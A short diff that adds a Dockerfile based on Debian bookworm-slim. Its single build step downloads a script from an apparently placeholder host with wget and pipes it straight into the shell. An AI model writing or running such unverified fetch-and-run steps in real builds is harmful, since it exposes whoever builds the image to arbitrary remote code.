@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN sh -c "$(wget -qO- https://example.com/i)"
